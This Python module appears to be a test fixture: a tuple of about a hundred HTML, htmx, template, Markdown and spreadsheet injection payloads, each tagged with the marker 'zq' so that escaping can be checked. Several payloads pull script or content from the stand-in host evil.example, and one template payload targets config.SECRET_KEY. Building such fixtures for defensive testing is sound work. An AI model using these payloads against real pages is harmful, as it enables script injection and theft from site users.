"""Texts that would do something if a page took them for markup. `zq` stands in each, so that it is found again."""

from __future__ import annotations

PAYLOADS = (
    # tags
    "<script>zq()</script>", "<SCRIPT SRC=//evil.example/zq.js></SCRIPT>", "<script/zq src=data:,1></script>",
    "<scr<script>ipt>zq()</scr</script>ipt>", "<img src=x onerror=zq()>", "<img/src='x'/onerror='zq()'>",
    "<img src=//evil.example/zq.png>", "<iframe srcdoc='<script>zq()</script>'></iframe>",
    "<iframe src=javascript:zq()>", "<object data=//evil.example/zq>", "<embed src=//evil.example/zq.swf>",
    "<base href=//evil.example/zq/>", "<meta http-equiv=refresh content='0;url=//evil.example/zq'>",
    "<link rel=stylesheet href=//evil.example/zq.css>", "<style>@import '//evil.example/zq.css'</style>",
    "<form action=//evil.example/zq><button>Pay</button></form>", "<button formaction=javascript:zq()>x</button>",
    "<input autofocus onfocus=zq()>", "<details open ontoggle=zq()>", "<video><source onerror=zq()></video>",
    "<audio src onerror=zq()>", "<body onload=zq()>", "<marquee onstart=zq()>", "<a href=javascript:zq()>x</a>",
    "<a href='java&#115;cript:zq()'>x</a>", "<template><zq></zq></template>", "<zq-element></zq-element>",
    "<dialog open>zq</dialog>", "<plaintext>zq", "<xmp><zq></xmp>", "<noscript><img title='</noscript><zq>'>",
    # the ends of what a page may stand in
    "</textarea><script>zq()</script>", "</title><script>zq()</script>", "</script><script>zq()</script>",
    "</option></select><img src=zq onerror=zq()>", "--><script>zq()</script><!--", "<!--zq", "<![CDATA[<zq>]]>",
    "]]><zq>", "</div></article></main><h1>zq</h1>", "<?zq ?>", "<!DOCTYPE zq>",
    # attributes
    "\" onmouseover=zq() x=\"", "' onmouseover=zq() x='", "\" autofocus onfocus=zq() \"", "x\" style=\"color:zq",
    "` onmouseover=zq() `", "\"><img src=zq onerror=zq()>", "'><svg onload=zq()>", "\" formaction=\"javascript:zq()",
    # entities and other spellings
    "&lt;script&gt;zq()&lt;/script&gt;", "&#60;zq&#62;", "&#x3c;img src=x onerror=zq()&#x3e;", "&quot; onclick=zq()",
    "&amp;lt;zq&amp;gt;", "\\u003cscript\\u003ezq()\\u003c/script\\u003e", "%3Cscript%3Ezq()%3C/script%3E",
    "＜script＞zq()＜/script＞", "+ADw-script+AD4-zq()", "‹zq›", "javascript:zq()", "data:text/html,<zq>",
    # SVG and MathML
    "<svg onload=zq()>", "<svg><script>zq()</script></svg>", "<svg><a xlink:href=javascript:zq()><text>x</text></a>",
    "<svg><use href='//evil.example/zq#x'/></svg>", "<svg><animate onbegin=zq() attributeName=x>",
    "<math><maction actiontype=statusline xlink:href=javascript:zq()>x", "<svg><foreignObject><zq/></foreignObject>",
    # what htmx would act upon
    "<div hx-get=/chat/panel?zq hx-trigger=load>x</div>", "<div data-hx-post=/cart/add?zq hx-trigger=load></div>",
    "<div hx-swap-oob='outerHTML:#chat-form'>zq</div>", "<div hx-on:click='zq()'>x</div>",
    "<div hx-ws:connect=//evil.example/zq></div>", "<b hx-vals='js:{a:zq()}'>x</b>",
    "<hx-partial hx-target='#cart-badge'>zq</hx-partial>", "<div hx-delete=/zq hx-confirm=x>x</div>",
    # templates
    "{{ 7*7 }} zq", "{{ config.SECRET_KEY }} zq", "{% include 'zq' %}", "{# zq #}", "${7*7}zq", "<%= zq %>", "#{zq}",
    # Markdown, and what a spreadsheet or terminal would act upon
    "![zq](//evil.example/zq.png)", "[zq](javascript:zq())", "=HYPERLINK(\"//evil.example/zq\";\"zq\")",
    "\u202ezq\u202c<zq>", "zq\u200b<zq>", "<zq\u00a0onload=1>", "ＺＱzq<img src=x onerror=zq()>",
)
